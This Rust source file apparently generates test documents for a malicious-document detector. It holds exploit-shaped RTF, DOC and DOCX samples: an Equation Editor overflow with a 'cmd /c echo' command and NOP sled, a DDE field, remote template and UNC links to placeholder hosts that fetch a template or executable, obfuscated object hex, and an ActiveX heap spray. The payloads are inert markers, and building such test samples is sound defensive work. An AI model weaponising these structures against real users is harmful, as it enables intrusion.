//! RTF with objects, fields and links, and the objects by themselves.

use crate::document::rtf::{Rtf, hex};
use crate::office::cfb::{Cfb, clsid_bytes, linked_package, packaged};
use crate::office::ole1;
use crate::office::ooxml::Package;
use crate::{Sample, mark};

/// The samples.
pub(super) fn all() -> Vec<Sample> {
    vec![
        Sample {
            id: "br1",
            file_name: "議事録.rtf",
            about: "an honest text: Japanese, a link, a real equation, a packed PDF that is text",
            make: minutes,
        },
        Sample {
            id: "fr2-disguised",
            file_name: "見積書.doc",
            about: "an object whose digits are broken up by control words, groups, escapes and blanks",
            make: disguised,
        },
        Sample {
            id: "fr2-equation",
            file_name: "御見積.doc",
            about: "an equation object by another spelling, with a font name that overflows",
            make: || {
                let command = format!("cmd /c echo {}", mark("fr2-equation"));
                let name = [command.as_bytes(), &[0x90; 24]].concat();
                let records = [&[0x0A, 0x01, 0x08, 0x5A, 0x5A][..], &name, &[0]].concat();
                Rtf::new()
                    .text("御見積書")
                    .object(
                        r"\objemb\objupdate",
                        "eQuatiON.3",
                        &ole1::embedded("eQuatiON.3", &ole1::equation(&records)),
                    )
                    .build()
            },
        },
        Sample {
            id: "fr2-matrix",
            file_name: "計算書.rtf",
            about: "an equation whose matrix overflows",
            make: || {
                let matrix = [&[0x0A, 0x01, 0x05, 1, 1, 1, 90, 2][..], &[0x41; 40]].concat();
                let data = ole1::embedded("Equation.3", &ole1::equation(&matrix));
                Rtf::new().text(&mark("fr2-matrix")).object(r"\objemb", "Equation.3", &data).build()
            },
        },
        Sample {
            id: "fr4",
            file_name: "日程表.rtf",
            about: "a package 8.t beside an equation, as builders of spies make",
            make: || {
                let hidden: Vec<u8> = mark("fr4").bytes().map(|byte| byte ^ 0xB2).collect();
                let package = ole1::embedded("Package", &packaged("8.t", r"C:\Windows\tasks\8.t", &hidden));
                let equation = ole1::embedded("Equation.2", &ole1::equation(&[0x0A, 0x01, 0]));
                Rtf::new()
                    .text("会議日程")
                    .object(r"\objemb", "Package", &package)
                    .object(r"\objemb", "Equation.2", &equation)
                    .build()
            },
        },
        Sample {
            id: "fr5",
            file_name: "案内状.rtf",
            about: "a font table with more fonts than Word can count",
            make: || {
                let fonts: String = (0..32_800).map(|font| format!("{{\\f{font}A;}}")).collect();
                Rtf::new().header(&format!("{{\\rtf1{{\\fonttbl{fonts}}}")).text(&mark("fr5")).build()
            },
        },
        Sample {
            id: "fr6",
            file_name: "連絡.rtf",
            about: "a field split over runs that calls a program, and a link that leads to another machine",
            make: || {
                Rtf::new()
                    .raw(r#"{\field{\*\fldinst {\b DDE}{\i AUTO c:\\\\harmless-none.exe}{ "/x"}}{\fldrslt x}}"#)
                    .object(
                        r"\objautlink",
                        "Word.Document.8",
                        &ole1::linked("Word.Document.8", r"\\192.0.2.60\s\a.doc", ""),
                    )
                    .text(&mark("fr6"))
                    .build()
            },
        },
        Sample {
            id: "fr7",
            file_name: "規約.rtf",
            about: "an object of the Explorer window, without data",
            make: || {
                let explorer =
                    Cfb::new().class("", "EAB22AC3-30C1-11CF-A7EB-0000C05BAE0B").stream("x", mark("fr7")).build();
                Rtf::new()
                    .object(r"\objemb", "Shell.Explorer.1", &ole1::embedded("Shell.Explorer.1", &explorer))
                    .build()
            },
        },
        Sample {
            id: "fr8",
            file_name: "通知.rtf",
            about: "a template on a bare address, written in escapes, with an object behind the last brace",
            make: || {
                let data = hex(&ole1::embedded("Package", &packaged("a.txt", "a.txt", mark("fr8").as_bytes())));
                let template: String = "http://192.0.2.61/t.dotm".bytes().map(|byte| format!("\\u{byte}?")).collect();
                let object = [&br"{\object{\*\objdata "[..], &data, b"}}"].concat();
                Rtf::new().raw(format!("{{\\*\\template {template}}}")).after(&object).build()
            },
        },
        Sample {
            id: "fr9",
            file_name: "手順書.doc",
            about: "an icon that starts a program of another machine; nothing is packed",
            make: || {
                let link = linked_package("手順", r"\\192.0.2.62\s\harmless-none.exe");
                Cfb::new()
                    .class("", "00020906-0000-0000-C000-000000000046")
                    .stream("WordDocument", mark("fr9").into_bytes())
                    .class("ObjectPool/_1", "0003000C-0000-0000-C000-000000000046")
                    .stream("ObjectPool/_1/\u{1}Ole10Native", link)
                    .build()
            },
        },
        Sample {
            id: "fr10",
            file_name: "申請書.docx",
            about: "a control of a class known for memory corruption, with data that fills memory",
            make: || {
                let class = clsid_bytes("1EFB6596-857C-11D1-B16A-00C0F0283628");
                let spray = [class.as_slice(), mark("fr10").as_bytes(), &[0x0C; 150_000]].concat();
                let xml = "<ax:ocx ax:classid=\"{1EFB6596-857C-11D1-B16A-00C0F0283628}\" ax:persistence=\"persistStreamInit\" \
                           r:id=\"rId1\" xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" \
                           xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"/>";
                Package::docx("申請書")
                    .part("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", xml)
                    .part("word/activeX/activeX1.bin", "application/vnd.ms-office.activeX", spray)
                    .build()
            },
        },
    ]
}

fn minutes() -> Vec<u8> {
    let equation = ole1::equation(
        &[&[0x0A, 0x01, 0x08, 0x81, 0x00][..], b"Times New Roman\0", &[0x02, 0x83, b'x', 0, 0]].concat(),
    );
    let compound = Cfb::new()
        .class("", "0002CE02-0000-0000-C000-000000000046")
        .stream("Equation Native", equation)
        .stream("\u{1}Ole", vec![0; 20])
        .build();
    Rtf::new()
        .text("議事録")
        .text("次回は来週月曜日です。")
        .field("HYPERLINK \"https://example.com/minutes\"", "資料")
        .object(r"\objemb", "Equation.3", &ole1::embedded("Equation.3", &compound))
        .object(r"\objemb", "Package", &ole1::embedded("Package", &packaged("メモ.txt", r"C:\tmp\メモ.txt", b"memo")))
        .build()
}

fn disguised() -> Vec<u8> {
    let file =
        [clsid_bytes("0003000C-0000-0000-C000-000000000046").as_slice(), mark("fr2-disguised").as_bytes()].concat();
    let data = ole1::embedded("pAcKaGe", &packaged("見積.txt", "見積.txt", &file));
    let mut digits = Vec::new();
    for (index, byte) in data.iter().enumerate() {
        digits.extend(format!("{byte:02x}").bytes());
        match index % 7 {
            0 => digits.extend(br"{\*\unknown4142 4344}"),
            1 => digits.extend(br"\'ff"),
            2 => digits.extend(br"\par12 "),
            3 => digits.extend(b"\t \r\n"),
            _ => {}
        }
    }
    digits.extend(b" ".repeat(600));
    Rtf::new().header(r"{\rtvpn").text("御見積書").object_of(r"\objhtml", "pAcKaGe", digits).build()
}
